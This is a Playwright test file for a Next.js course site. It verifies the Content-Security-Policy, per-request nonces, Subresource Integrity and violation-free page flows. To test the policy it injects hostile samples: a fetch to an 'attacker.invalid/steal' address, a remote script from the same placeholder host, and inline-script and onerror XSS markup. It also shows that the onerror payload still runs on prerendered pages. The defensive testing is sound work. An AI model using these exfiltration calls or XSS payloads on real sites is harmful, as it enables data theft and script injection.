import { execFileSync } from "node:child_process";
import { createHash, randomBytes } from "node:crypto";
import fs from "node:fs";
import path from "node:path";
import type { BrowserContext, Page, Response } from "@playwright/test";
import { isRenderedPerRequest } from "../lib/http/content-security-policy.mjs";
import { expect, instructorOf, test } from "./fixtures/accounts";
import { LOCKS } from "./fixtures/locks";
import { enrol, lessonIds, signUpStudent } from "./lesson-fixtures";
import { query } from "./support";

// Issue 15, headers: the Content-Security-Policy (lib/http/content-security-policy.mjs, set by next.config.mjs)
// lets every screen work (Next's inline payload scripts, the HLS player's blob: media and worker, the demo
// checkout, the admin pages) while refusing what the app never does, and the public pages stay static.
// The pages rendered per request get a per-response nonce from proxy.ts instead of 'unsafe-inline': a script
// injected there does not run, and Next's own scripts, which carry the nonce, do.

type Violation = { directive: string; blocked: string; sample: string; page: string };

/** Every CSP violation and uncaught error in this context's pages, from the first script of each page on. */
async function watch(context: BrowserContext) {
  const violations: Violation[] = [];
  const errors: string[] = [];
  await context.exposeBinding("__reportCspViolation", ({ page }, v: Omit<Violation, "page">) => {
    violations.push({ ...v, page: page.url() });
  });
  await context.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (e) => {
      (window as unknown as { __reportCspViolation: (v: object) => void }).__reportCspViolation({ directive: e.effectiveDirective, blocked: e.blockedURI, sample: e.sample });
    });
  });
  const follow = (page: Page) => {
    page.on("pageerror", (error) => errors.push(`${page.url()}: ${error.message}`));
    // Chromium also logs refusals on the console, some (a worker's, a frame's) where no event reaches the page.
    page.on("console", (message) => {
      if (/Content Security Policy|Refused to/i.test(message.text())) errors.push(`${page.url()}: ${message.text()}`);
    });
  };
  context.pages().forEach(follow);
  context.on("page", follow);
  return {
    violations,
    errors,
    expectClean() {
      expect(violations, "CSP violations").toEqual([]);
      expect(errors, "page errors and CSP refusals").toEqual([]);
    },
  };
}

/** The page hydrated: Next's inline bootstrap ran (it defines self.__next_f) and React answers clicks. */
async function expectHydrated(page: Page) {
  await page.waitForLoadState("networkidle");
  expect(await page.evaluate(() => Array.isArray((self as unknown as { __next_f?: unknown[] }).__next_f))).toBe(true);
}

/** The page's path without its language prefix, as PER_REQUEST_PAGES names it. */
function pathOf(url: string) {
  return new URL(url).pathname.replace(/^\/(ar|de|es|fr|hi|it|ja|ko|pt|ru|zh)(?=\/|$)/, "") || "/";
}

const scriptSources = (policy: string) => /(?:^|;\s*)script-src ([^;]*)/.exec(policy)?.[1]?.split(" ") ?? [];

/**
 * A page rendered per request runs scripts by nonce only, and every script tag Next wrote carries that nonce;
 * a prerendered page keeps the site-wide policy and has no nonce anywhere.
 */
async function expectScriptPolicy(response: Response) {
  const url = response.url();
  const policy = response.headers()["content-security-policy"] ?? "";
  const sources = scriptSources(policy);
  const tags = [...(await response.text()).matchAll(/<script\b[^>]*>/g)].map(([tag]) => tag);
  expect(tags.length, url).toBeGreaterThan(0);
  if (isRenderedPerRequest(pathOf(url))) {
    const nonce = sources.find((s) => s.startsWith("'nonce-"))?.slice("'nonce-".length, -1);
    expect(nonce, `${url}: ${policy}`).toMatch(/^[A-Za-z0-9+/]{22}==$/);
    expect(sources, url).toContain("'strict-dynamic'");
    expect(sources, url).not.toContain("'unsafe-inline'");
    for (const tag of tags) expect(tag, url).toContain(` nonce="${nonce}"`);
  } else {
    expect(sources, url).toContain("'unsafe-inline'");
    expect(policy, url).not.toContain("'nonce-");
    for (const tag of tags) expect(tag, url).not.toContain(" nonce=");
  }
  // The directives besides scripts are the site-wide ones either way.
  for (const directive of ["default-src 'self'", "object-src 'none'", "base-uri 'self'", "frame-ancestors 'none'", "worker-src 'self' blob:"]) {
    expect(policy, url).toContain(directive);
  }
}

async function visit(page: Page, url: string) {
  const response = await page.goto(url);
  expect(response?.status(), url).toBeLessThan(400);
  await expectScriptPolicy(response!);
  await expectHydrated(page);
}

/** React answers a click: the header's menu button (shown on a narrow screen) opens and closes the menu. */
async function expectInteractive(page: Page) {
  const size = page.viewportSize();
  await page.setViewportSize({ width: 390, height: 800 });
  const toggle = page.locator('header button[aria-controls="mobile-menu"]');
  await toggle.click();
  await expect(toggle).toHaveAttribute("aria-expanded", "true");
  await expect(page.locator("#mobile-menu")).toBeVisible();
  await toggle.click();
  await expect(toggle).toHaveAttribute("aria-expanded", "false");
  if (size) await page.setViewportSize(size);
}

test("every response carries the policy: no framing, no plugins, no <base>, forms only to the site", async ({ request }) => {
  // A static page, a page behind proxy.ts (its redirect to sign-in), an API answer, a static file.
  for (const url of ["/", "/courses", "/es/courses", "/dashboard", "/api/health", "/robots.txt"]) {
    const response = await request.get(url, { maxRedirects: 0 });
    const headers = response.headers();
    const policy = headers["content-security-policy"] ?? "";
    expect(policy, url).toContain("frame-ancestors 'none'");
    expect(policy, url).toContain("object-src 'none'");
    expect(policy, url).toContain("base-uri 'self'");
    expect(policy, url).toContain("form-action 'self'");
    expect(policy, url).toContain("default-src 'self'");
    // The headers there before the policy are still sent.
    expect(headers["x-frame-options"], url).toBe("DENY");
    expect(headers["x-content-type-options"], url).toBe("nosniff");
    expect(headers["referrer-policy"], url).toBe("strict-origin-when-cross-origin");
    expect(headers["permissions-policy"], url).toBe("camera=(), microphone=(), geolocation=()");
    // The test server is plain http on 127.0.0.1: no HSTS, nothing upgraded.
    expect(headers["strict-transport-security"], url).toBeUndefined();
    expect(policy, url).not.toContain("upgrade-insecure-requests");
  }
});

test("the policy is enforced, and the watcher the other tests rely on sees each refusal", async ({ page, context }) => {
  const watcher = await watch(context);
  await page.goto("/courses");
  await page.evaluate(async () => {
    await fetch("https://attacker.invalid/steal").catch(() => {});
    const object = document.createElement("object");
    object.data = "/robots.txt";
    document.body.append(object);
    const script = document.createElement("script");
    script.src = "https://attacker.invalid/x.js";
    document.body.append(script);
  });
  await expect
    .poll(() => watcher.violations.map((v) => v.directive).sort())
    .toEqual(expect.arrayContaining(["connect-src", "object-src", "script-src-elem"]));
  expect(watcher.violations.find((v) => v.directive === "connect-src")?.blocked).toBe("https://attacker.invalid/steal");
});

// A translation saved meanwhile would expire the cached course page.
test("the public pages stay prerendered: the build lists them as static or regenerated, and serves them from its cache", { lock: LOCKS.courseContent }, async ({ request }) => {
  const distDir = process.env.NEXT_DIST_DIR ?? ".next";
  const manifest = JSON.parse(fs.readFileSync(path.join(distDir, "prerender-manifest.json"), "utf8")) as {
    routes: Record<string, unknown>;
    dynamicRoutes: Record<string, { fallback: unknown }>;
  };
  for (const route of ["/en", "/es", "/en/courses", "/en/courses/new-testament", "/en/login", "/en/terms"]) {
    expect(Object.keys(manifest.routes), "prerendered pages").toContain(route);
  }
  // Course pages are generated on first visit and kept (ISR): a prerendered route, not one rendered per request.
  expect(Object.keys(manifest.dynamicRoutes)).toContain("/[locale]/course/[courseId]");

  // A page rendered per request (as a per-request nonce would force) is sent `private, no-store`.
  for (const url of ["/", "/courses", "/course/genesis", "/course/genesis"]) {
    const response = await request.get(url);
    expect(response.status(), url).toBe(200);
    expect(response.headers()["cache-control"], url).not.toMatch(/private|no-store/);
  }
  expect((await request.get("/course/genesis")).headers()["x-nextjs-cache"]).toMatch(/HIT|STALE/);
});

/** The build's pages by route (/[locale]/course/[courseId]), each prerendered (static or ISR) or not. */
function buildPages() {
  const distDir = process.env.NEXT_DIST_DIR ?? ".next";
  const read = (file: string) => JSON.parse(fs.readFileSync(path.join(distDir, file), "utf8"));
  const prerender = read("prerender-manifest.json") as { routes: Record<string, { srcRoute: string | null }>; dynamicRoutes: Record<string, unknown> };
  const prerendered = new Set([...Object.keys(prerender.dynamicRoutes), ...Object.values(prerender.routes).map((r) => r.srcRoute)]);
  const routes = Object.keys(read("server/app-paths-manifest.json") as Record<string, string>)
    .filter((entry) => entry.startsWith("/[locale]") && entry.endsWith("/page"))
    // Route groups are not part of the address.
    .map((entry) => entry.replace(/\/\([^)]+\)/g, "").replace(/\/page$/, "") || "/");
  return routes.map((route) => ({ route, prerendered: prerendered.has(route) }));
}

test("proxy.ts gives a nonce to exactly the pages the build renders per request", () => {
  const pages = buildPages();
  // An address of each page: one segment per parameter, without the locale.
  const address = (route: string) => route.replace(/^\/\[locale\]/, "").replace(/\[\.\.\.[^\]]+\]/, "a/b").replace(/\[[^\]]+\]/g, "x") || "/";
  const perRequest = pages.filter((p) => !p.prerendered).map((p) => p.route);
  expect(perRequest).toEqual(expect.arrayContaining(["/[locale]/dashboard", "/[locale]/checkout/[courseId]", "/[locale]/courses/search"]));
  // A new page rendered per request must join PER_REQUEST_PAGES; a page made static must leave it.
  expect(pages.filter((p) => isRenderedPerRequest(address(p.route)) === p.prerendered)).toEqual([]);
});

test("prerendered pages keep the site-wide policy and carry no nonce, addresses with a % included", async ({ request }) => {
  for (const url of ["/", "/courses", "/es/courses/new-testament", "/course/genesis", "/login", "/checkout", "/course/g%65nesis", "/verify", "/reset-password"]) {
    const response = await request.get(url, { maxRedirects: 0 });
    const policy = response.headers()["content-security-policy"] ?? "";
    expect(scriptSources(policy), url).toContain("'unsafe-inline'");
    expect(policy, url).not.toContain("'nonce-");
    expect(await response.text(), url).not.toMatch(/<script\b[^>]* nonce=/);
  }
});

test("Next's bootstrap chunks carry their hashes (Subresource Integrity), and the hashes match what is served", async ({ request }) => {
  const html = await (await request.get("/courses")).text();
  const tags = [...html.matchAll(/<script[^>]*\ssrc="(\/_next\/static\/[^"]+)"[^>]*>/g)];
  const hashed = tags.flatMap(([tag, src]) => {
    const integrity = /\sintegrity="sha256-([A-Za-z0-9+/=]+)"/.exec(tag)?.[1];
    return integrity ? [{ src: src!, integrity }] : [];
  });
  // The Turbopack runtime and the polyfills are Next's own; the page's client-component chunks are preloaded
  // by React's Flight client, which passes no integrity (React 19.2), so they are not covered.
  expect(hashed.map((h) => h.src)).toEqual(expect.arrayContaining([expect.stringMatching(/\/turbopack-[^/]+\.js$/)]));
  expect(hashed.length).toBeGreaterThanOrEqual(3);
  for (const { src, integrity } of hashed) {
    const body = await (await request.get(src)).body();
    expect(createHash("sha256").update(body).digest("base64"), src).toBe(integrity);
  }
});

test("a visitor's pages run with no violation: home, catalogue, a course, sign-in, the translations screen", async ({ page, context }) => {
  test.setTimeout(90_000);
  const watcher = await watch(context);
  for (const url of ["/", "/courses", "/courses/new-testament", "/course/genesis", "/es/course/genesis", "/login", "/signup", "/translations"]) {
    await visit(page, url);
  }
  // A client-side navigation runs the next page's payload through the already running router.
  await page.goto("/courses");
  await page.locator('a[href^="/course/"]').first().click();
  await expect(page).toHaveURL(/\/course\/[^/]+$/);
  await expectHydrated(page);
  watcher.expectClean();
});

/** A video of `lessonId` with an HLS ladder of one rendition, written where the disk driver keeps files. */
function storeHlsVideo(lessonId: string) {
  const root = process.env.STORAGE_DISK_PATH;
  if (!root) throw new Error("STORAGE_DISK_PATH is not set: run the e2e tests with `npm test -- e2e`.");
  const name = randomBytes(12).toString("hex");
  const storageKey = `videos/${lessonId}/${name}.mp4`;
  const original = path.join(root, storageKey);
  const hls = path.join(root, `videos/${lessonId}/${name}/hls`);
  fs.mkdirSync(path.join(hls, "240p"), { recursive: true });
  const ffmpeg = process.env.FFMPEG_PATH ?? "ffmpeg";
  const source = ["-v", "error", "-y", "-f", "lavfi", "-i", "testsrc2=size=426x240:rate=25", "-f", "lavfi", "-i", "sine=frequency=440", "-t", "8"];
  const h264 = ["-c:v", "libx264", "-preset", "ultrafast", "-pix_fmt", "yuv420p", "-g", "50", "-c:a", "aac", "-shortest"];
  execFileSync(ffmpeg, [...source, ...h264, "-movflags", "+faststart", original]);
  execFileSync(ffmpeg, [...source, ...h264, "-f", "hls", "-hls_time", "4", "-hls_playlist_type", "vod", "-hls_segment_filename", path.join(hls, "240p/seg-%05d.ts"), path.join(hls, "240p/index.m3u8")]);
  fs.writeFileSync(
    path.join(hls, "master.m3u8"),
    '#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-STREAM-INF:BANDWIDTH=400000,RESOLUTION=426x240,CODECS="avc1.64001e,mp4a.40.2"\n240p/index.m3u8\n',
  );
  return { storageKey, hlsKey: `videos/${lessonId}/${name}/hls/master.m3u8`, size: fs.statSync(original).size, files: [original, path.dirname(hls)] };
}

test("a student's pages run with no violation: the HLS player plays, an assessment starts, the demo card pays", async ({ page, context }) => {
  test.setTimeout(90_000);
  const watcher = await watch(context);
  const userId = await signUpStudent(page.request);
  await enrol(userId, "nahum");
  const [lessonId] = await lessonIds("nahum");
  const title = `CSP check ${Date.now()}`;
  const stored = storeHlsVideo(lessonId!);
  const [video] = await query<{ id: string }>(
    `INSERT INTO videos (id, "lessonId", title, "storageKey", "contentType", "fileSize", duration, status, "probedAt", "processingProgress", "hlsKey", "order", published, "updatedAt")
     VALUES (gen_random_uuid()::text, $1, $2, $3, 'video/mp4', $4, 8, 'ready', now(), 100, $5, 99, true, now()) RETURNING id`,
    [lessonId, title, stored.storageKey, stored.size, stored.hlsKey],
  );
  try {
    await visit(page, `/course/nahum/lesson/${lessonId}`);
    const player = page.getByRole("region", { name: `Video player: ${title}` });
    await expect(player).toHaveAttribute("data-engine", "hls.js");
    await player.locator("video").evaluate((v: HTMLVideoElement) => (v.muted = true));
    await player.getByRole("button", { name: "Play" }).click();
    // hls.js fed the <video> through a blob: MediaSource, and it plays.
    await expect.poll(() => player.locator("video").evaluate((v: HTMLVideoElement) => v.currentTime), { timeout: 20_000 }).toBeGreaterThan(1);
    expect(await player.locator("video").evaluate((v: HTMLVideoElement) => v.currentSrc)).toMatch(/^blob:/);

    await visit(page, "/dashboard");
    await expectInteractive(page);
    await visit(page, "/certificates");
    await expectInteractive(page);

    const [assessment] = await query<{ id: string }>(
      `SELECT a.id FROM assessments a JOIN courses c ON c.id = a."courseId" WHERE c.slug = 'nahum' ORDER BY a."order" LIMIT 1`,
    );
    await visit(page, `/assessment/${assessment!.id}`);
    await page.getByRole("button", { name: "Start Assessment" }).click();
    await expect(page.getByTestId("assessment-position")).toHaveText(/^Question 1 of \d+$/);

    await visit(page, "/checkout/joel");
    await page.getByLabel("Card number").fill("4242 4242 4242 4242");
    await page.getByLabel("Expiry").fill("12 / 34");
    await page.getByLabel("CVC").fill("123");
    await page.getByRole("button", { name: /^Pay \$/ }).click();
    await expect(page.getByRole("heading", { name: "You're enrolled in Joel" })).toBeVisible();
    await expectHydrated(page);
  } finally {
    await query(`DELETE FROM videos WHERE id = $1`, [video!.id]);
    for (const file of stored.files) fs.rmSync(file, { recursive: true, force: true });
  }
  watcher.expectClean();
});

test("the instructor's translations screen and the admin pages run with no violation", async ({ browser, accounts }) => {
  test.setTimeout(90_000);
  for (const [account, urls] of [
    // Deuteronomy is on the first page of /translations, so the editor's buttons are there.
    [instructorOf("deuteronomy"), ["/translations", "/pt/translations", "/dashboard"]],
    ["admin", ["/admin/users", "/admin/payments", "/es/admin/users", "/translations"]],
  ] as const) {
    const context = await browser.newContext({ storageState: await accounts.storageState(account) });
    const watcher = await watch(context);
    const page = await context.newPage();
    for (const url of urls) {
      await visit(page, url);
      await expectInteractive(page);
    }
    watcher.expectClean();
    await context.close();
  }
});

type Injected = { __markup?: string; __markupHandler?: number; __domHandler?: number };

/**
 * An attacker's string reaching the DOM as HTML (innerHTML): a <script> written that way never runs, an event
 * handler does unless the policy refuses inline handlers. (A script element that running JavaScript creates
 * itself is let through by 'strict-dynamic' in Chromium, nonce or not: the policy stops injected markup, not
 * code that already runs.)
 */
async function injectIntoDom(page: Page) {
  await page.evaluate(() => {
    const holder = document.createElement("div");
    holder.innerHTML = '<img src="/csp-missing-image.png" onerror="window.__domHandler = 1">';
    document.body.append(holder);
  });
}

const injectedRan = (page: Page) =>
  page.evaluate(() => {
    const w = window as unknown as Injected;
    return { markup: w.__markup, markupHandler: w.__markupHandler, domHandler: w.__domHandler };
  });

test("a script injected into a page rendered per request does not run and is reported, while Next's own scripts run", async ({ page, context, accounts }) => {
  const watcher = await watch(context);
  await accounts.signIn(page, "student");
  // Markup that got past the sanitiser into the server's HTML: parser-inserted, and without the nonce.
  await page.route(/\/dashboard$/, async (route) => {
    if (route.request().resourceType() !== "document") return route.continue();
    const response = await route.fetch();
    const headers = { ...response.headers() };
    delete headers["content-encoding"];
    delete headers["content-length"];
    const injected = '<script>window.__markup = "ran"</script><img src="/csp-missing-image.png" onerror="window.__markupHandler = 1">';
    await route.fulfill({ status: response.status(), headers, body: (await response.text()).replace("</body>", `${injected}</body>`) });
  });
  const response = await page.goto("/dashboard");
  expect(scriptSources(response!.headers()["content-security-policy"] ?? "")).toContain("'strict-dynamic'");
  await expectHydrated(page);
  await expectInteractive(page);
  await injectIntoDom(page);

  // Each refusal is reported with the start of what was refused (the policy asks for 'report-sample').
  await expect
    .poll(() => watcher.violations.map((v) => `${v.directive} ${v.blocked} ${v.sample}`).sort())
    .toEqual([
      "script-src-attr inline window.__domHandler = 1",
      "script-src-attr inline window.__markupHandler = 1",
      'script-src-elem inline window.__markup = "ran"',
    ]);
  expect(await injectedRan(page)).toEqual({ markup: undefined, markupHandler: undefined, domHandler: undefined });
  expect(watcher.violations.every((v) => v.page.endsWith("/dashboard"))).toBe(true);
});

test("the same injection still runs on a prerendered page, whose policy is unchanged ('unsafe-inline' for Next's payload)", async ({ page }) => {
  await visit(page, "/courses");
  await injectIntoDom(page);
  await expect.poll(() => injectedRan(page)).toEqual({ markup: undefined, markupHandler: undefined, domHandler: 1 });
});
